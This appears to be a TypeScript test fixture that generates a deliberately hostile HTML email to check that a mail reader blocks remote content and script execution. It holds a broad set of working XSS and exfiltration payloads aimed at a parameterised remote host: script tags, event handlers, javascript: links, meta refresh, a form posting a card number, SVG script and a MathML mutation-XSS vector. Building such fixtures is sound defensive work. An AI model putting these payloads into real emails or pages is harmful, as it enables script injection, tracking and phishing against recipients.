// A hostile HTML email: every way a message could run code, submit, navigate or fetch. Image
// paths (`/<tag>-*.png`) are the only ones a reader may load, and only after consent; every
// other path of `remote` must never be requested.
export const IMAGE_PATHS = (tag: string): string[] =>
  ['img', 'srcset', 'table-bg', 'style-bg', 'css-bg'].map((kind) => `/${tag}-${kind}.png`);

export function hostileMail(remote: string, tag: string): string {
  const pwn = (what: string) =>
    `parent.postMessage('pwned:${what}','*');top.postMessage('pwned:${what}','*')`;
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=${remote}/refresh">
<base href="${remote}/base/">
<link rel="stylesheet" href="${remote}/link.css">
<script src="${remote}/script.js"></script>
<script>${pwn('head-script')};new Image().src='${remote}/inline-script';</script>
<style>
  @import url(${remote}/import.css);
  @font-face { font-family: x; src: url(${remote}/font.woff); }
  .hero { background: url('${remote}/${tag}-css-bg.png'); font-family: x; }
</style>
</head>
<body onload="${pwn('body-onload')}">
<p class="hero">Dear buyer, please find our quotation for 20ft container FOB Ningbo. 尊敬的客户，您好！</p>
<img src="${remote}/${tag}-img.png" alt="logo">
<img srcset="${remote}/${tag}-srcset.png 2x" alt="retina">
<table background="${remote}/${tag}-table-bg.png"><tr><td>price table</td></tr></table>
<div style="background-image:url(&quot;${remote}/${tag}-style-bg.png&quot;)">styled</div>
<img src="x" onerror="${pwn('onerror')};new Image().src='${remote}/onerror'">
<img src="relative.png" alt="relative to base">
<a id="js-link" href="javascript:${pwn('js-link')};new Image().src='${remote}/js-link'">Click for the catalogue</a>
<a id="real-link" href="https://example.com/catalogue" ping="${remote}/ping">Catalogue</a>
<form action="${remote}/form" method="post"><input name="card" value="4111"><button id="submit">Pay</button></form>
<input type="image" src="${remote}/input-image">
<iframe src="${remote}/iframe"></iframe>
<object data="${remote}/object"></object>
<embed src="${remote}/embed">
<video poster="${remote}/video-poster" src="${remote}/video"></video>
<svg xmlns="http://www.w3.org/2000/svg"><script>${pwn('svg-script')}</script>
  <image href="${remote}/svg-image" width="10" height="10"/><a href="javascript:${pwn('svg-link')}"><text>svg link</text></a></svg>
<math><mtext><style><img src="${remote}/math-mxss" onerror="${pwn('mxss')}"></style></mtext></math>
<div onclick="${pwn('onclick')}" id="clickable">Click here</div>
</body></html>`;
}
